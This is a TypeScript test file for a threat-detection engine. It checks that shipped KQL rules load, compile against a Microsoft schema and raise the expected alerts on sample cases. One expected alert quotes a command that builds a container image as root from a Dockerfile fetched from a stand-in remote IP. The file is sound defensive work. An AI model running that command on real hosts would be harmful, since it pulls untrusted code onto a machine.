import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compile } from '../kql/index.js';
import { microsoftSchema } from '../kql/microsoft-schema.js';
import { openMemory } from '../store/duckdb.js';
import { loadCases, type RuleCase } from './cases.js';
import type { CompiledRule } from './rule.js';
import { shippedRules } from './shipped.js';
import { runCase, tryCase } from './try-case.js';

const all = shippedRules.flatMap((rule) =>
  loadCases(join('detections', rule.id)).map((found) => ({
    rule,
    found,
    name: `${rule.id} ${found.name}`,
  })),
);

/** How many alerts a rule raises on a case, with its rows in one batch and one by one. */
const counts = async (rule: CompiledRule, found: RuleCase): Promise<number[]> =>
  (await tryCase(rule, found)).raised.map(({ count }) => count);

describe('shipped rules', { timeout: 30_000 }, () => {
  it('are the directories under detections/', () => {
    const directories = readdirSync('detections').sort();
    expect(shippedRules.map(({ id }) => id)).toEqual(directories);
    expect(shippedRules.every(({ mode }) => mode === 'batch')).toBe(true);
  });

  it.each(all)('$name', async ({ rule, found }) => {
    expect(await counts(rule, found)).toEqual([found.expected, found.expected]);
  });

  it('miss their count when a row is missing', async () => {
    const [first] = all;
    if (!first) throw new Error('no case');
    const shortened = { ...first.found, rows: first.found.rows.slice(1) };
    expect(await counts(first.rule, shortened)).not.toContain(first.found.expected);
  });

  it('build-image-on-host binds on the tables as Microsoft publishes them', () => {
    const text = readFileSync('detections/build-image-on-host/query.kql', 'utf8');
    expect(compile(text, { catalog: microsoftSchema })).toHaveProperty('query');
  });

  it('raise alerts that say what was found, with the whole row', async () => {
    const found = all.find(({ name }) => name.endsWith('dropper-in-tmp.ndjson'));
    if (!found) throw new Error('no such case');
    const writer = await openMemory();
    const alerts = await runCase(found.rule, found.found, writer).finally(() => writer.close());
    expect(alerts.find(({ RiskScore }) => RiskScore === 4)).toMatchObject({
      RuleId: 'build-image-on-host',
      Severity: 'High',
      Techniques: ['T1612'],
      DeviceName: 'build-host',
      AccountName: 'root',
      Detail: 'docker image build -f https://198.51.100.7/Dockerfile -',
      RiskScore: 4,
      ResultRow: { ProcessId: 4200, RemoteIP: '' },
    });
    expect(new Set(alerts.map(({ AlertId }) => AlertId)).size).toBe(4);
  });
});
